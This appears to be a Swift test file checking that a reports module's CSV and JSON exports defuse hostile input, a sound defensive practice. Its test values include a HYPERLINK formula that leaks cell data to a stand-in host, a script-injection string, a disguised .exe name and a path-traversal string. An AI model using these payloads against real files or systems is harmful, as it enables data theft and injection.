import Diagnostics
import Foundation
import Reservations
import TestSupport
import Testing

@testable import Reports

@Suite("Hostile values in reports")
struct HostileValueTests {
    static let values = [
        "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "a\r\nb,c", "\"", "a,b",
        "</script><script>alert(1)</script>", "\u{202E}gpj.exe", "\u{2066}x\u{2069}",
        "nul\u{0}bell\u{7}escape\u{1B}[2J",
        "\u{85}next\u{2028}line\u{2029}", "not a character \u{FFFE}", "family 👨‍👩‍👧", "../../etc/passwd", "",
        String(repeating: "long ", count: 200_000),
    ]

    @Test("CSV cells never begin as a formula, and rows never break", arguments: values)
    func csv(value: String) throws {
        let rows = try CSVReader.rows(of: Self.report(value).csv())
        #expect(rows.count == 2)
        #expect(rows.allSatisfy { $0.count == 21 })
        #expect(rows.joined().allSatisfy { cell in !"=+-@\t\r".contains { cell.hasPrefix(String($0)) } })
    }

    @Test("CSV keeps a harmless value as it is, and puts an apostrophe before a formula")
    func apostrophe() throws {
        #expect(try CSVReader.rows(of: Self.report("a,\"b\"").csv())[1][7] == "a,\"b\"")
        #expect(try CSVReader.rows(of: Self.report("=1").csv())[1][7] == "'=1")
    }

    @Test("JSON stays readable, small, and free of what a terminal or a page would obey", arguments: values)
    func json(value: String) throws {
        let bytes = Self.report(value).json()
        #expect(bytes.count < 10_000)
        #expect(!bytes.contains { $0 < 0x20 && $0 != 0x0A })
        #expect(!String(decoding: bytes, as: UTF8.self).contains("</script"))
        let read = try #require(JSONSerialization.jsonObject(with: Data(bytes)) as? [String: Any])
        let findings = try #require(read["findings"] as? [[String: Any]])
        let summary = try #require(findings.first?["summary"] as? String)
        #expect(summary == ReportText.clean(value, limit: ReportText.valueLimit))
        #expect(
            !summary.unicodeScalars.contains {
                $0.properties.isBidiControl || $0.properties.generalCategory == .control
            })
    }

    @Test("Emoji and letters of all scripts stay as they are", arguments: ["family 👨‍👩‍👧", "Größe", "会議室", "שלום"])
    func harmless(text: String) {
        #expect(ReportText.clean(text, limit: 100) == text)
    }

    static func report(_ value: String) -> ExportReport {
        var report = ExportReport(
            source: value, export: value, usage: .inForce, bookings: [], diagnostics: [],
            context: ReportContext(zone: .gmt) { _ in nil })
        report.findings = [
            Finding(
                file: value, line: 1, uid: value, room: value, owner: value, summary: value, message: value, hint: value
            )
        ]
        report.findingsTotal = 1
        return report
    }
}

/// RFC 4180, as a receiver reads it.
private enum CSVReader {
    struct Broken: Error {}

    static func rows(of bytes: [UInt8]) throws -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var cell: [UInt8] = []
        var isQuoted = false
        var index = 0
        while index < bytes.count {
            let byte = bytes[index]
            let next = index + 1 < bytes.count ? bytes[index + 1] : nil
            switch (byte, isQuoted) {
            case (UInt8(ascii: "\""), true) where next == UInt8(ascii: "\""):
                cell.append(byte)
                index += 1
            case (UInt8(ascii: "\""), _): isQuoted.toggle()
            case (UInt8(ascii: ","), false):
                row.append(String(decoding: cell, as: UTF8.self))
                cell = []
            case (13, false):
                guard next == 10 else { throw Broken() }
                rows.append(row + [String(decoding: cell, as: UTF8.self)])
                (row, cell) = ([], [])
                index += 1
            case (10, false): throw Broken()
            default: cell.append(byte)
            }
            index += 1
        }
        guard row.isEmpty, cell.isEmpty, !isQuoted else { throw Broken() }
        return rows
    }
}
